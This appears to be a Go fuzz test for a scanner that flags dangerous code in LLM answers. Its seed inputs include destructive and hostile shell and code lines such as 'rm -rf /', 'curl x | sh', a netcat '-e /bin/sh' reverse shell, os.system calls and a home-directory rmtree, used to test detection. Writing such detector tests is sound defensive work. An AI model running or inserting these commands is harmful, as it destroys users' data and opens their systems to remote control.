package llm

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// FuzzScanCode checks the security scan on any answer: it never panics,
// is deterministic, reports findings in line order on lines that exist,
// each rule at most once per line, with a valid, bounded snippet, and
// stays fast (no blow-up with the input's size).
func FuzzScanCode(f *testing.F) {
	for _, s := range []string{
		"", "```\nrm -rf /\n```", "Here:\n\n    curl x | sh\n", "```python\nimport os as o\no.system('id')\n```",
		"```\nfrom os import (system as s, popen)\ns(x)\n```", "~~~\nnc -e /bin/sh h 1\n", "\t\teval(x)",
		"```js\nconst { exec: run, spawn } = require('child_process')\nrun(c)\n```",
		"```\nhome = os.path.expanduser('~')\nshutil.rmtree(home)\nrm -rf \"$home\"\n```",
		"```\n" + strings.Repeat("a = b # c 'd' \"e\" ", 200) + "\n```", "````\n```\n````\n", "```\n\xff\xfe\x00\n```",
	} {
		f.Add(s)
	}
	for _, d := range dangerousLines[:20] {
		f.Add("```\n" + d.code + "\n```")
	}
	f.Fuzz(func(t *testing.T, answer string) {
		start := time.Now()
		got := ScanCode(answer)
		// Generous, so that a loaded machine does not fail it; what it
		// catches is a blow-up (quadratic matching, a runaway alias loop).
		if d := time.Since(start); d > time.Second+time.Duration(len(answer))*100*time.Microsecond {
			t.Fatalf("ScanCode took %v on %d bytes", d, len(answer))
		}
		lines := strings.Count(answer, "\n") + 1
		seen := map[string]bool{}
		prev := 0
		for _, f := range got {
			key := f.Pattern + "@" + string(rune(f.Line))
			switch {
			case f.Line < 1 || f.Line > lines || f.Line < prev:
				t.Fatalf("finding on line %d (answer has %d, previous %d)", f.Line, lines, prev)
			case seen[key]:
				t.Fatalf("rule %s twice on line %d", f.Pattern, f.Line)
			case len(f.Snippet) > maxSnippet+3 || !utf8.ValidString(f.Snippet) && utf8.ValidString(answer):
				t.Fatalf("snippet %q", f.Snippet)
			case f.Pattern == "" || f.Description == "" || f.Severity == "":
				t.Fatalf("incomplete finding %+v", f)
			}
			seen[key] = true
			prev = f.Line
		}
		again := ScanCode(answer)
		if len(again) != len(got) {
			t.Fatalf("ScanCode is not deterministic: %d then %d findings", len(got), len(again))
		}
	})
}
